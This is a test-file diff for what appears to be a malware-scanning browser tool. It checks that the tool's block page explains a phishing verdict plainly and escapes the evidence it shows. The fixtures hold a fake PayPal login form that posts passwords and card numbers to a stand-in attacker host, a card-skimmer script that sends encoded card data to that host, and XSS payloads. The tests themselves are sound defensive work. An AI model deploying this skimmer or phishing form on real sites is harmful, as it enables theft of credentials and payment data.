@@ -76,3 +76,59 @@ def test_inert_script_cannot_break_out_and_warns():
     assert code_lines[0].count("*/") == 1
     assert code_lines[1].startswith("console.warn(") and "</script>" not in code_lines[1]
     assert len(code_lines) == 2
+
+
+# -- one plain voice and the technical details (issue 16, item 6) ------------------------------
+
+PHISH_HTML = """<html><head><title>PayPal - Log in</title></head><body>
+<h1>PayPal</h1><p>Your PayPal account is limited. Log in to confirm your identity.</p>
+<form action="https://collect.evil-host.example/gate.php?a=<b>" method="post">
+<input type="email" name="email"><input type="password" name="pass">
+<input name="cc" autocomplete="cc-number"><input name="cvv"><button>Log in</button></form>
+<iframe src="https://frames.evil-host.example/x" width="0" height="0" style="display:none"></iframe>
+</body></html>"""
+SKIMMER_URL = 'https://cdn.evil-host.example/s.js?"><img src=x onerror=alert(3)>'
+SKIMMER = ("var a=document.forms[0];a.addEventListener('submit',function(){new Image().src="
+           "'https://collect.evil-host.example/?d='+btoa(a.cc.value+a.cvv.value)})")
+
+
+def _phish_verdict():
+    from malwaresnipper.engine.capture import Capture, Source
+    from malwaresnipper.engine.engine import RiskEngine
+
+    capture = Capture.build("https://paypal-secure-login.example-verify.xyz/signin", html=PHISH_HTML,
+                            scripts=[{"url": SKIMMER_URL, "text": SKIMMER, "inline": False}], source=Source.PROXY)
+    return RiskEngine().scan(capture)
+
+
+def test_a_real_verdicts_block_page_speaks_plainly_and_shows_the_evidence_escaped():
+    from malwaresnipper.addon.replies import technical_details, verdict_reasons
+    from malwaresnipper.engine.capture import sha256_text
+    from malwaresnipper.engine.explain import headline
+
+    verdict = _phish_verdict()
+    assert verdict.is_malicious
+    page = blockpage.render_block_page(
+        url=verdict.url, reasons=verdict_reasons(verdict), risk_score=verdict.risk_score,
+        classification=verdict.classification, links=None, scan_id="abc123",
+        technical=technical_details(verdict), scan_href="http://127.0.0.1:5000/#scan=abc123")
+    assert f'<p class="lead">{blockpage.html.escape(headline(verdict.classification))}</p>' in page
+    assert "This page looks like a phishing page: it may try to steal your passwords" in page
+    assert not re.search(r"looks (phishing|skimmer|malicious)", page)
+    why = page.split("<h2>Why</h2>")[1].split("</ul>")[0]
+    assert not re.search(r"\b(critical|high|medium|low|info)\s*:", why, re.I)  # no severity prefixes
+    tech = page.split('<details class="technical"><summary>Technical details</summary>')[1].split("</details>")[0]
+    assert "<dt>Form sends to</dt><dd>collect.evil-host.example</dd>" in tech
+    assert "<dt>Hidden frame host</dt><dd>frames.evil-host.example</dd>" in tech
+    assert f"{blockpage.html.escape(SKIMMER_URL)} sha256 {sha256_text(SKIMMER)}" in tech
+    assert "signatures.skimmer_card_exfil" in tech and "dom.form_action_external" in tech
+    assert "<dt>Found in</dt><dd>form #1</dd>" in tech
+    assert "btoa(a.cc.value" not in page  # where, not what: the blocked code stays off the page
+    assert "<img" not in page and "&lt;img src=x onerror=alert(3)&gt;" in page  # page strings are text
+    assert '<a href="http://127.0.0.1:5000/#scan=abc123">Scan abc123</a>' in page
+
+
+def test_the_scan_link_is_only_an_http_link_and_absent_without_a_dashboard():
+    assert "<a href=\"javascript" not in render(scan_id="s1", scan_href="javascript:alert(1)")
+    assert "<small>Scan s1</small>" in render(scan_id="s1", scan_href=None)
+    assert "#scan=" not in render(scan_id="s1", scan_href=None)
